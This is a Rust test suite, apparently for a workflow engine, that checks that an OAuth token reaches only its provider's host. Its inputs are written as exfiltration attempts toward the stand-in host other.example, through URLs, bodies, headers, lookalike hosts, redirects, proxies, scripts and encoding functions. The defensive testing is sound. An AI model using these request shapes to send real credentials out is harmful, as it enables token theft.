//! The ways on which a token could leave, each closed.

use std::io::Read as _;
use std::time::Duration;

use _core::action::run::{Answer, PythonStep};
use _core::action::value::{Key, Value};
use _core::http::{
    ActionRequest, Client, HeaderName, HeaderValue, HostRule, Method, Options, Trust,
};
use url::Url;

use super::run::{
    Asked, USER, World, named_template, options, redirect, result, said, template, token_step,
};
use crate::support::alone;

/// What the one step of these templates puts somewhere.
const TOKEN: &str = "${{ SECRETS.acme_oauth.ACME_USER_TOKEN }}";
/// The first token that is issued.
const ISSUED: &str = "access-token-1";

/// A request with these arguments, in which `TOKEN` stands for the token.
fn request(arguments: &str) -> String {
    token_step(&arguments.replace("TOKEN", TOKEN))
}

/// Fails before anything is asked, naming both hosts.
async fn is_kept_from(arguments: &str, host: &str) {
    let world = World::connected().await;
    let error = world
        .run(&request(arguments), "{}")
        .await
        .expect_err(arguments);
    assert!(world.asked().is_empty(), "{arguments}: {:?}", world.asked());
    let reason = error.reason();
    assert!(reason.contains("api.acme.example"), "{arguments}: {reason}");
    assert!(reason.contains(host), "{arguments}: {reason}");
    assert!(
        !reason.contains("evergrant-token-"),
        "{arguments}: {reason}"
    );
}

fn carries_no_token(asked: &[Asked]) {
    for one in asked {
        assert!(!format!("{one:?}").contains(ISSUED), "{one:?}");
        let body = one.body.as_deref().unwrap_or_default();
        assert!(!String::from_utf8_lossy(body).contains(ISSUED), "{one:?}");
    }
}

#[tokio::test]
async fn a_token_reaches_its_own_host_in_a_header() {
    let world = World::connected().await;
    let step = request(
        "{method: GET, url: 'https://api.acme.example/me', headers: {Authorization: 'Bearer TOKEN', X-Key: 'TOKEN'}}",
    );
    world.run(&step, "{}").await.unwrap();
    let asked = world.only();
    assert_eq!(asked.header("authorization"), Some("Bearer access-token-1"));
    assert_eq!(asked.header("x-key"), Some(ISSUED));
}

#[tokio::test]
async fn a_token_goes_to_no_path_that_an_input_leads_elsewhere() {
    for id in ["..", ".", "%2e%2E", "%2e.", "../admin", "a/../../b"] {
        is_kept_from_path(id).await;
    }
    let world = World::connected().await;
    let step = request(
        "{method: GET, url: 'https://api.acme.example/items/..a%2f../parts', headers: {Authorization: 'Bearer TOKEN'}}",
    );
    world.run(&step, "{}").await.unwrap();
    assert_eq!(
        world.only().header("authorization"),
        Some("Bearer access-token-1")
    );
}

async fn is_kept_from_path(id: &str) {
    let world = World::connected().await;
    let arguments = format!(
        "{{method: GET, url: 'https://api.acme.example/items/{id}/parts', headers: {{Authorization: 'Bearer TOKEN'}}}}"
    );
    let error = world.run(&request(&arguments), "{}").await.expect_err(id);
    assert_eq!(error.code(), "token_for_another_path", "{id}");
    assert!(world.asked().is_empty(), "{id}");
}

#[tokio::test]
async fn a_token_is_put_into_basic_credentials_before_they_are_encoded() {
    let world = World::connected().await;
    let step = request(
        "{method: GET, url: 'https://files.acme.example:8443/', auth: {username: 'TOKEN', password: x}}",
    );
    world.run(&step, "{}").await.unwrap();
    // base64 of access-token-1:x
    assert_eq!(
        world.only().header("authorization"),
        Some("Basic YWNjZXNzLXRva2VuLTE6eA==")
    );
}

#[tokio::test]
async fn way_1_the_host_of_a_url() {
    is_kept_from(
        "{method: GET, url: 'https://TOKEN.other.example/'}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_2_the_path_of_a_url() {
    is_kept_from(
        "{method: GET, url: 'https://api.acme.example/TOKEN'}",
        "in the URL",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/TOKEN'}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_3_the_query_of_a_url() {
    is_kept_from(
        "{method: GET, url: 'https://other.example/?t=TOKEN'}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/#TOKEN'}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_4_params() {
    is_kept_from(
        "{method: GET, url: 'https://other.example/', params: {t: 'TOKEN'}}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/', params: {'TOKEN': 1}}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/', params: {a: [{b: 'TOKEN'}]}}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_5_a_json_body() {
    is_kept_from(
        "{method: POST, url: 'https://other.example/', payload: {a: [{b: 'x TOKEN'}]}}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: POST, url: 'https://api.acme.example/gists', payload: ['TOKEN']}",
        "in the body",
    )
    .await;
    is_kept_from(
        "{method: POST, url: 'https://other.example/', content: 'TOKEN'}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_6_a_form() {
    is_kept_from(
        "{method: POST, url: 'https://other.example/', form_data: {t: 'TOKEN'}}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_7_a_file() {
    is_kept_from("{method: POST, url: 'https://other.example/', files: {f: {content_base64: '', filename: 'TOKEN'}}}", "other.example").await;
    is_kept_from(
        "{method: POST, url: 'https://other.example/', files: {f: 'TOKEN'}}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_8_a_header_to_a_foreign_host() {
    is_kept_from(
        "{method: GET, url: 'https://other.example/', headers: {A: 'TOKEN'}}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/', auth: {username: u, password: 'TOKEN'}}",
        "other.example",
    )
    .await;
    // The provider's host over http, where everyone on the way reads it.
    is_kept_from(
        "{method: GET, url: 'http://api.acme.example/', headers: {A: 'TOKEN'}}",
        "http://api.acme.example",
    )
    .await;
    // Many hosts share an address: a Host header leads to another one.
    is_kept_from("{method: GET, url: 'https://api.acme.example/', headers: {Host: other.example, A: 'TOKEN'}}", "other.example").await;
    is_kept_from(
        "{method: GET, url: 'https://other.example/', headers: {'TOKEN': a}}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_9_a_header_to_a_host_that_looks_alike() {
    for host in [
        "api.acme.example.other.example",
        "xapi.acme.example",
        "acme.example",
        "a.api.acme.example",
        "apiacme.example",
    ] {
        let arguments = format!("{{method: GET, url: 'https://{host}/', headers: {{A: 'TOKEN'}}}}");
        is_kept_from(&arguments, host).await;
    }
}

#[tokio::test]
async fn way_10_a_host_in_other_letters() {
    // A Cyrillic a, a full-width dot that is one, and a soft hyphen that vanishes.
    is_kept_from(
        "{method: GET, url: 'https://\u{430}pi.acme.example/', headers: {A: 'TOKEN'}}",
        "xn--",
    )
    .await;
    let world = World::connected().await;
    let step =
        request("{method: GET, url: 'https://api\u{ff0e}acme.example/', headers: {A: 'TOKEN'}}");
    world.run(&step, "{}").await.unwrap();
    assert_eq!(world.only().url, "https://api.acme.example/");
}

#[tokio::test]
async fn way_11_another_port() {
    is_kept_from(
        "{method: GET, url: 'https://api.acme.example:8443/', headers: {A: 'TOKEN'}}",
        "api.acme.example:8443",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://files.acme.example/', headers: {A: 'TOKEN'}}",
        "files.acme.example",
    )
    .await;
}

#[tokio::test]
async fn way_12_a_user_name_before_the_host() {
    is_kept_from(
        "{method: GET, url: 'https://api.acme.example@other.example/', headers: {A: 'TOKEN'}}",
        "other.example",
    )
    .await;
    is_kept_from(
        "{method: GET, url: 'https://TOKEN@other.example/'}",
        "other.example",
    )
    .await;
}

#[tokio::test]
async fn way_13_a_redirect_to_another_host() {
    for status in [301, 302, 303, 307, 308] {
        for target in [
            "https://other.example/",
            "//other.example/",
            "https://api.acme.example:444/",
            "https://api.acme.example@other.example/",
        ] {
            let world = World::connected().await;
            world.answers(redirect(status, target));
            let step = request(
                "{method: GET, follow_redirects: true, url: 'https://api.acme.example/', headers: {Authorization: 'Bearer TOKEN', X-Key: 'TOKEN', X-Plain: kept}}",
            );
            world.run(&step, "{}").await.unwrap();
            let asked = world.asked();
            assert_eq!(asked.len(), 2, "{status} {target}");
            assert_eq!(asked[0].header("x-key"), Some(ISSUED));
            carries_no_token(&asked[1..]);
            assert_eq!(
                asked[1].headers,
                [("x-plain".to_owned(), "kept".to_owned())]
            );
        }
    }
}

#[tokio::test]
async fn a_redirect_within_the_host_keeps_the_token() {
    let world = World::connected().await;
    world.answers(redirect(302, "/there"));
    let step = request(
        "{method: GET, follow_redirects: true, url: 'https://api.acme.example/here', headers: {Authorization: 'Bearer TOKEN'}}",
    );
    world.run(&step, "{}").await.unwrap();
    let asked = world.asked();
    assert_eq!(asked[1].url, "https://api.acme.example/there");
    assert_eq!(
        asked[1].header("authorization"),
        Some("Bearer access-token-1")
    );
}

#[tokio::test]
async fn basic_credentials_with_a_token_go_to_no_other_host() {
    let world = World::connected().await;
    world.answers(redirect(307, "https://other.example/"));
    let step = request(
        "{method: POST, follow_redirects: true, url: 'https://api.acme.example/', auth: {username: u, password: 'TOKEN'}, payload: 1}",
    );
    world.run(&step, "{}").await.unwrap();
    let second = &world.asked()[1];
    assert_eq!(
        (
            second.method.as_str(),
            second.body(),
            second.header("authorization")
        ),
        ("POST", "1", None)
    );
}

#[tokio::test]
async fn way_14_a_redirect_to_http() {
    let world = World::connected().await;
    world.answers(redirect(302, "http://api.acme.example/"));
    let step = request(
        "{method: GET, follow_redirects: true, url: 'https://api.acme.example/', headers: {X-Key: 'TOKEN'}}",
    );
    world.run(&step, "{}").await.unwrap();
    let asked = world.asked();
    assert_eq!(asked.len(), 2);
    carries_no_token(&asked[1..]);
    // What is no page of the web is not followed at all.
    let world = World::connected().await;
    world.answers(redirect(302, "file:///etc/passwd"));
    let error = world.run(&step, "{}").await.unwrap_err();
    assert_eq!(error.code(), "invalid_redirect");
}

#[tokio::test]
async fn way_15_a_connection_that_nobody_verifies() {
    is_kept_from(
        "{method: GET, url: 'https://api.acme.example/', verify_ssl: false, headers: {A: 'TOKEN'}}",
        "verify_ssl: false",
    )
    .await;
    let world = World::connected().await;
    world
        .run(
            &request("{method: GET, url: 'https://api.acme.example/', verify_ssl: false}"),
            "{}",
        )
        .await
        .unwrap();
    assert!(world.only().is_blind);
}

#[test]
fn way_16_a_proxy() {
    // The proxy is this process: it sees what the child sends through it.
    let proxy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", proxy.local_addr().unwrap());
    let seen = std::thread::spawn(move || {
        let mut seen = Vec::new();
        // The two requests of the child, and the connection that ends this.
        for stream in proxy.incoming().take(3) {
            let mut stream = stream.unwrap();
            let mut bytes = [0; 4096];
            let length = stream.read(&mut bytes).unwrap();
            seen.push(String::from_utf8_lossy(&bytes[..length]).into_owned());
        }
        seen
    });
    let variables = ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"];
    let variables = variables.map(|name| (name, address.as_str()));
    alone(
        "action::ways_out::way_16_a_proxy",
        &[&variables[..], &[("NO_PROXY", "")]].concat(),
        async {
            let client = Client::new(Options::default());
            for url in [
                "https://api.acme.invalid/path",
                "http://api.acme.invalid/path",
            ] {
                let sent = client.exchange(ActionRequest {
                    host_rule: HostRule::Named,
                    method: Method::GET,
                    url: Url::parse(url).unwrap(),
                    headers: vec![(
                        HeaderName::from_static("authorization"),
                        HeaderValue::from_static(ISSUED),
                    )],
                    body: None,
                    timeout: Some(Duration::from_secs(20)),
                    deadline: Duration::from_secs(20),
                    trust: Trust::default(),
                });
                sent.await.unwrap_err();
            }
        },
    );
    if std::env::var_os("EVERGRANT_TEST_CHILD").is_some() {
        return;
    }
    let last = address.strip_prefix("http://").unwrap();
    std::net::TcpStream::connect(last).unwrap();
    let seen = seen.join().unwrap();
    // Through TLS the proxy is told the host alone. Without it it would be told all, so no token goes there.
    assert!(
        seen[0].starts_with("CONNECT api.acme.invalid:443 "),
        "{seen:?}"
    );
    assert!(!seen[0].contains(ISSUED), "{seen:?}");
    assert!(seen[1].contains(ISSUED), "{seen:?}");
}

#[tokio::test]
async fn no_token_goes_where_a_proxy_would_read_it() {
    is_kept_from(
        "{method: GET, url: 'http://api.acme.example/', headers: {Authorization: 'TOKEN'}}",
        "http://api.acme.example",
    )
    .await;
}

#[tokio::test]
async fn way_17_a_script() {
    let world = World::connected().await;
    let text = template(&format!(
        "  secrets:
    - {{type: oauth, provider_id: acme, grant_type: authorization_code}}
  expects: {{}}
  steps:
    - {{ref: script, action: core.script.run_python, args: {{script: 'def main(t): return t', inputs: {{t: '{TOKEN}'}}}}}}
    - {{ref: out, action: core.http_request, args: {{method: POST, url: 'https://other.example/', payload: '${{{{ steps.script.result }}}}'}}}}
  returns: ok
"
    ));
    // What it does to the marker is of no use to anybody.
    let reversed = |step: PythonStep| {
        let PythonStep::Script { arguments } = step else {
            panic!("{step:?} is no script")
        };
        let shown = format!("{arguments:?}");
        assert!(!shown.contains(ISSUED), "{shown}");
        let Some(Value::Mapping(inputs)) = arguments.get(&Key::from("inputs")) else {
            panic!("{shown}")
        };
        let token = inputs[&Key::from("t")].text().unwrap();
        Answer::Value(Value::from(String::from_iter(token.chars().rev())))
    };
    world
        .run_with(&text, "{}", options(), reversed)
        .await
        .unwrap();
    carries_no_token(&world.asked());
    assert_eq!(world.issued(), 0);
    // And headers that a script builds work like any others.
    let built = text.replace(
        "https://other.example/', payload: '${{ steps.script.result }}'",
        "https://api.acme.example/', headers: '${{ steps.script.result }}'",
    );
    let building = |step: PythonStep| {
        let PythonStep::Script { arguments } = step else {
            panic!("{step:?} is no script")
        };
        let inputs = arguments[&Key::from("inputs")].get("t").unwrap().clone();
        Answer::Value(Value::mapping([("A".into(), inputs)].into_iter().collect()))
    };
    world
        .run_with(&built, "{}", options(), building)
        .await
        .unwrap();
    assert_eq!(world.asked()[1].header("a"), Some(ISSUED));
}

#[tokio::test]
async fn way_18_what_a_template_returns() {
    let world = World::connected().await;
    // The API repeats the request, as some do for debugging.
    world.answers(said(200, "{\"you\": \"sent Bearer access-token-1\"}"));
    let text = request("{method: GET, url: 'https://api.acme.example/', headers: {A: 'TOKEN'}}")
        .replace(
            "result: ${{ steps.only.result }}",
            &format!(
                "result: ${{{{ steps.only.result }}}}\n    token: {TOKEN}\n    mixed: x{TOKEN}y"
            ),
        );
    let returned = world.run(&text, "{}").await.unwrap();
    let shown = returned.repr();
    assert!(!shown.contains(ISSUED), "{shown}");
    let marker = returned.get("token").unwrap().text().unwrap();
    assert!(marker.starts_with("evergrant-token-"), "{shown}");
    let again = world.run(&text, "{}").await.unwrap();
    assert_ne!(again.get("token").unwrap().text(), Some(marker));
}

#[tokio::test]
async fn a_token_that_an_api_repeats_does_not_reach_the_next_step() {
    for body in ["{\"you\": \"access-token-1\"}", "\"access-token-1\""] {
        let world = World::connected().await;
        let mut answer = said(200, body);
        answer
            .headers
            .push(("x-you", "Bearer access-token-1".to_owned()));
        world.answers(answer);
        let text = template(&format!(
            "  secrets:
    - {{type: oauth, provider_id: acme, grant_type: authorization_code}}
  expects: {{}}
  steps:
    - {{ref: echo, action: core.http_request, args: {{method: GET, url: 'https://api.acme.example/', headers: {{A: '{TOKEN}'}}}}}}
    - {{ref: out, action: core.http_request, args: {{method: POST, url: 'https://other.example/', payload: '${{{{ steps.echo.result }}}}'}}}}
  returns: ok
"
        ));
        let error = world.run(&text, "{}").await.unwrap_err();
        assert_eq!(error.code(), "token_out_of_place");
        assert_eq!(world.asked().len(), 1);
    }
}

#[tokio::test]
async fn way_19_the_text_of_an_error() {
    let world = World::connected().await;
    let mut answer = said(500, "{\"you\": \"sent access-token-1\"}");
    answer.headers.push(("x-you", "access-token-1".to_owned()));
    world.answers(answer);
    let step = request("{method: GET, url: 'https://api.acme.example/', headers: {A: 'TOKEN'}}");
    let error = world.run(&step, "{}").await.unwrap_err();
    let shown = format!("{error} {error:?}");
    assert!(!shown.contains(ISSUED), "{shown}");
    assert!(!shown.contains("evergrant-token-"), "{shown}");
    assert!(shown.contains("answered 500"), "{shown}");
}

#[tokio::test]
async fn way_20_a_template_inside() {
    let world = World::connected().await;
    let inner = named_template(
        "inner",
        "  expects:
    t: {type: str}
  steps:
    - {ref: out, action: core.http_request, args: {method: POST, url: 'https://other.example/', headers: {A: '${{ inputs.t }}'}}}
  returns: ok
",
    );
    world.keep("inner.yaml", &inner);
    let text = template(&format!(
        "  secrets:
    - {{type: oauth, provider_id: acme, grant_type: authorization_code}}
  expects: {{}}
  steps:
    - {{ref: call, action: tools.acme.inner, args: {{t: '{TOKEN}'}}}}
  returns: ok
"
    ));
    let error = world.run(&text, "{}").await.unwrap_err();
    assert_eq!(error.code(), "token_for_another_host");
    assert!(
        error.reason().contains("api.acme.example") && error.reason().contains("other.example"),
        "{error}"
    );
    assert!(world.asked().is_empty());
}

#[tokio::test]
async fn no_function_changes_a_token() {
    for (name, expression) in [
        ("to_base64", "FN.to_base64(T)"),
        ("to_base64url", "FN.to_base64url(T)"),
        ("hash_sha256", "FN.hash_sha256(T)"),
        ("hash_md5", "FN.hash_md5(FN.concat('a', T))"),
        ("length", "FN.length(T)"),
        ("uppercase", "FN.uppercase(T)"),
        ("titleize", "FN.titleize(T)"),
        ("slice", "FN.slice(T, 0, 40)"),
        ("split", "FN.split(T, '-')"),
        ("replace", "FN.replace(T, 'token', 'x')"),
        ("strip", "FN.strip(T, 'evrgant')"),
        ("regex_extract", "FN.regex_extract('.{5}', T)"),
        ("at", "FN.at(T, 0)"),
        ("length", "FN.length.map([T])"),
        ("replace", "FN.slugify(FN.replace(T, '-', '_'))"),
        ("to_base64", "FN.to_base64(FN.serialize({'a': [T]}))"),
    ] {
        let world = World::connected().await;
        let expression = expression.replace('T', "SECRETS.acme_oauth.ACME_USER_TOKEN");
        let text = request("{method: POST, url: 'https://other.example/', content: EXPRESSION}")
            .replace(
                "EXPRESSION",
                &format!("'${{{{ {} }}}}'", expression.replace('\'', "\"")),
            );
        let error = world.run(&text, "{}").await.expect_err(name);
        let named = format!("FN.{name}: a token of acme can't be changed, measured or encoded");
        assert!(error.reason().contains(&named), "{name}: {error}");
        assert!(world.asked().is_empty(), "{name}");
    }
}

#[tokio::test]
async fn no_operator_takes_a_token_apart() {
    for expression in [
        "(T)[0]",
        "T * 0",
        "\"%.5s\" % T",
        "T % 5",
        "int(T)",
        "float(T)",
        "([T])[0][3]",
        "steps.first.result[0]",
        "steps.first.result.`split(-, 0, -1)`",
        "steps.first.result.`sub(/token/, x)`",
        "steps.first.result.`len`",
    ] {
        let world = World::connected().await;
        let expression = expression.replace('T', "SECRETS.acme_oauth.ACME_USER_TOKEN");
        let text = template(&format!(
            "  secrets:
    - {{type: oauth, provider_id: acme, grant_type: authorization_code}}
  expects: {{}}
  steps:
    - {{ref: first, action: core.transform.reshape, args: {{value: '{TOKEN}'}}}}
    - {{ref: out, action: core.http_request, args: {{method: POST, url: 'https://other.example/', content: '${{{{ {expression} }}}}'}}}}
  returns: ok
"
        ));
        let error = world.run(&text, "{}").await.expect_err(&expression);
        assert_eq!(error.code(), "evaluation_failed", "{expression}: {error}");
        assert!(world.asked().is_empty(), "{expression}");
    }
}

#[tokio::test]
async fn a_token_is_passed_on_whole_and_tested() {
    for expression in [
        "FN.concat(\"Bearer \", T)",
        "FN.join([\"Bearer\", T], \" \")",
        "FN.format(\"Bearer {}\", T)",
        "FN.merge([{\"a\": 1}, {\"A\": FN.concat(\"Bearer \", T)}])[\"A\"]",
        "\"Bearer \" + T",
        "\"Bearer %s\" % T",
        "[\"Bearer \" + T][0]",
        "None || (\"Bearer \" + T)",
        "\"Bearer \" + T if T is not None else \"\"",
        "\"Bearer \" + (T || \"\") if not FN.is_null(T) && T != \"\" else \"x\"",
    ] {
        let world = World::connected().await;
        let expression = expression.replace('T', "SECRETS.acme_oauth.ACME_USER_TOKEN");
        let text =
            request("{method: GET, url: 'https://api.acme.example/', headers: {A: EXPRESSION}}")
                .replace("EXPRESSION", &format!("'${{{{ {expression} }}}}'"));
        world.run(&text, "{}").await.expect(&expression);
        assert_eq!(
            world.only().header("a"),
            Some("Bearer access-token-1"),
            "{expression}"
        );
    }
}

#[tokio::test]
async fn a_host_that_the_user_names_gets_the_token_too_on_this_machine_without_tls() {
    let world = World::bare().await;
    world
        .configure(USER, &["http://127.0.0.1:8123", "api.acme.example"])
        .await;
    world.import("default").await;
    let step = request("{method: GET, url: 'http://127.0.0.1:8123/', headers: {A: 'TOKEN'}}");
    world.run(&step, "{}").await.unwrap();
    assert_eq!(world.only().header("a"), Some(ISSUED));
    let other = request("{method: GET, url: 'http://127.0.0.1:8124/', headers: {A: 'TOKEN'}}");
    assert_eq!(
        world.run(&other, "{}").await.unwrap_err().code(),
        "token_for_another_host"
    );
    assert!(
        result(&world.run(&step, "{}").await.unwrap())
            .get("status_code")
            .is_some()
    );
}
